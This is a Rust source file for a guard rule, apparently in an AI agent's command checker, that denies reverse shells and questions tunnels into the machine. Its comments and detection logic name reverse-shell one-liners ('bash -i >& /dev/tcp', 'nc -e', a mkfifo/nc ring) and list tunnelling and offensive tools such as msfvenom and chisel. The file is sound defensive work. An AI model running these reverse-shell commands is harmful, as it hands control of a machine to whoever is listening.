//! A shell for somebody else: `shell/reverse-shell`.

use model::{Event, Findings, Meta};
use shell::Call;
use shell::text::show;

use super::words::{only_looks, program, subcommands, value};
use crate::{Check, Context};

static META: Meta = super::guard(
    "shell/reverse-shell",
    "a shell that is handed to the network",
    "\
Refuses shells whose input and output go to the network: `bash -i >& /dev/tcp/…`, `nc -e`, `socat exec:`, a fifo between `nc` and a
shell, sockets joined to a shell in Python, Perl, PHP, Ruby or Node, terminals as web pages, and tunnels that lead to this machine's
own login. Any other way from outside to this machine (`ssh -R`) is a question to the person. `ssh -L`, a local server shown
by `ngrok http`, and `nc -z` to see whether a port is open pass.
",
    include_str!("reverse_shell.toml"),
);

pub(crate) struct Rule;

impl Check for Rule {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn run(&self, event: &Event, cx: &Context<'_>, out: &mut Findings) {
        let Some(reading) = cx.reading(event) else { return };
        let joined = reading.unseen.iter().any(|unseen| unseen.by == "reverse shell");
        let leads = |call: &Call| tunnel(call) == Some(Tunnel::Shell);
        if joined
            || reading.calls.iter().any(gives_shell)
            || reading.calls.iter().any(leads)
            || by_fifo(&reading.calls)
        {
            out.deny(
                META.id,
                "This gives a shell on this machine to the network.".into(),
                "Whoever is there could do anything.",
            )
            .instead = Some("Use ssh with keys that the person has set up.".into());
            return;
        }
        if let Some(call) = reading.calls.iter().find(|call| tunnel(call) == Some(Tunnel::Open)) {
            out.ask(
                META.id,
                format!("`{}` opens a way from outside to this machine.", show(&call.line())),
                "Whoever knows the address could use it.",
            )
            .instead = Some("Reach out instead of letting in: `ssh -L 8080:localhost:80 <host>`.".into());
        }
    }
}

#[derive(PartialEq, Eq)]
enum Tunnel {
    /// To a shell or a login of this machine.
    Shell,
    /// To something else here.
    Open,
}

/// Programs that can be one, or make one.
const TUNNELS: &[&str] = &[
    "autossh",
    "bore",
    "chisel",
    "cloudflared",
    "frpc",
    "gost",
    "gotty",
    "gs-netcat",
    "ligolo-agent",
    "msfconsole",
    "msfvenom",
    "ngrok",
    "rathole",
    "rxvt",
    "shellinaboxd",
    "ssh",
    "sshx",
    "tailscale",
    "teleconsole",
    "tmate",
    "ttyd",
    "upterm",
    "urxvt",
    "websocat",
    "wetty",
    "xterm",
];

/// A way from outside to this machine.
fn tunnel(call: &Call) -> Option<Tunnel> {
    if !TUNNELS.contains(&program(call)) || only_looks(call) {
        return None;
    }
    let login = |text: &str| {
        text.split(['/', '@', ',']).any(|part| part == "22" || part.ends_with(":22"))
            || text.starts_with("ssh://")
    };
    let kind = |shell: bool| Some(if shell { Tunnel::Shell } else { Tunnel::Open });
    let words = subcommands(call, &[]);
    let first = words.first().copied().unwrap_or_default();
    match program(call) {
        "ssh" | "autossh" => {
            let args = call.args();
            let (at, glued) = args.iter().enumerate().find_map(|(at, arg)| {
                let cluster = arg.text.strip_prefix('-').filter(|rest| !rest.starts_with('-'))?;
                let (before, after) = cluster.split_once('R')?;
                before.chars().all(|c| "46AaCfGgKkMNnqsTtVvXxYy".contains(c)).then_some((at, after))
            })?;
            let to =
                if glued.is_empty() { args.get(at + 1).map_or("", |arg| arg.text.as_str()) } else { glued };
            kind(login(to))
        }
        "ngrok" => match first {
            "tcp" | "tls" => kind(call.texts().any(login)),
            _ => None,
        },
        "cloudflared" => (first == "tunnel" || first == "access")
            .then(|| kind(call.texts().any(|t| login(t) || t.contains("ssh://") || t.contains("rdp://"))))
            .flatten()
            .filter(|kind| *kind == Tunnel::Shell),
        "chisel" => match first {
            "client" => call.texts().any(|t| t.starts_with("R:")).then(|| {
                if call.texts().any(|t| login(t) || t.ends_with("socks")) {
                    Tunnel::Shell
                } else {
                    Tunnel::Open
                }
            }),
            "server" => Some(Tunnel::Open),
            _ => None,
        },
        "frpc" | "bore" | "ligolo-agent" | "gost" | "rathole" => kind(call.texts().any(login)),
        // Their only use is a terminal for others.
        "tmate" | "ttyd" | "gotty" | "shellinaboxd" | "wetty" | "sshx" | "teleconsole" | "gs-netcat" => {
            Some(Tunnel::Shell)
        }
        "tailscale" => (first == "funnel").then(|| kind(call.texts().any(login))).flatten(),
        "upterm" => (first == "host").then_some(Tunnel::Shell),
        "xterm" | "rxvt" | "urxvt" => {
            value(call, &["-display"]).filter(|display| !display.starts_with(':')).map(|_| Tunnel::Shell)
        }
        "msfvenom" | "msfconsole" => Some(Tunnel::Shell),
        "websocat" => call
            .texts()
            .any(|t| {
                matches!(t, "--exec" | "--sh-c")
                    || t.starts_with("--exec=")
                    || t.starts_with("sh-c:")
                    || t.starts_with("exec:")
                    || t.starts_with("cmd:")
            })
            .then_some(Tunnel::Shell),
        _ => None,
    }
}

/// `mkfifo f; cat f | sh -i | nc host port > f`: the pieces are harmless, the ring is not.
fn by_fifo(calls: &[Call]) -> bool {
    let any = |names: &[&str]| calls.iter().any(|call| names.contains(&call.program()));
    any(&["mkfifo", "mknod"])
        && any(&["nc", "ncat", "netcat", "telnet", "openssl", "socat"])
        && any(&["sh", "bash", "zsh", "dash", "ksh"])
}

fn gives_shell(call: &Call) -> bool {
    let network = |text: &str| text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/");
    let program = call.program();
    let is_shell = matches!(program, "bash" | "sh" | "zsh" | "dash" | "ksh" | "exec");
    // To see whether a service of this machine answers, a connection is opened, and nothing is run in it.
    let knocks = program == "exec"
        && call.args().is_empty()
        && call.redirects.iter().all(|r| {
            let host = r.target.text.split('/').nth(3);
            !network(&r.target.text) || matches!(host, Some("localhost" | "127.0.0.1"))
        });
    if is_shell && !knocks && call.redirects.iter().any(|r| network(&r.target.text)) {
        return true;
    }
    // A shell that runs whatever it is told, on its way to somebody.
    let sends = matches!(
        program,
        "nc" | "ncat" | "netcat" | "telnet" | "socat" | "openssl" | "curl" | "wget" | "ssh"
    );
    if program == "ztcp"
        || (sends && call.stdin.as_deref().is_some_and(|text| text.contains(shell::text::SHELL)))
    {
        return true;
    }
    let shell_word = |text: &str| {
        matches!(
            shell::path::name(text),
            "sh" | "bash" | "zsh" | "dash" | "cmd.exe" | "powershell.exe" | "ksh"
        )
    };
    match program {
        "nc" | "ncat" | "netcat" | "nc.traditional" => {
            let args = call.args();
            let executes = args.iter().enumerate().any(|(i, a)| {
                let cluster = a.text.starts_with('-')
                    && !a.text.starts_with("--")
                    && (a.text.ends_with('e') || a.text.ends_with('c'));
                (cluster || matches!(a.text.as_str(), "--exec" | "--sh-exec"))
                    && args
                        .get(i + 1)
                        .is_some_and(|next| next.text.split_whitespace().next().is_some_and(shell_word))
            });
            executes
                || args.iter().any(|a| {
                    a.text
                        .strip_prefix("--exec=")
                        .or(a.text.strip_prefix("--sh-exec="))
                        .is_some_and(|t| shell_word(t.split_whitespace().next().unwrap_or("")))
                })
        }
        "socat" => {
            call.texts().any(|t| {
                t.to_ascii_lowercase().starts_with("exec:") || t.to_ascii_lowercase().starts_with("system:")
            }) && call.texts().any(|t| {
                let t = t.to_ascii_lowercase();
                t.starts_with("tcp") || t.starts_with("udp") || t.starts_with("openssl")
            })
        }
        "openssl" => {
            call.has("s_client")
                && call.stdin.is_some()
                && call.redirects.iter().any(|r| r.target.text.contains("/tmp/"))
        }
        // `mkfifo f; cat f | sh -i | nc host port > f`
        _ => {
            is_shell
                && call.has("-i")
                && call.stdin.as_deref().is_some_and(|text| text.contains(shell::text::NET))
        }
    }
}
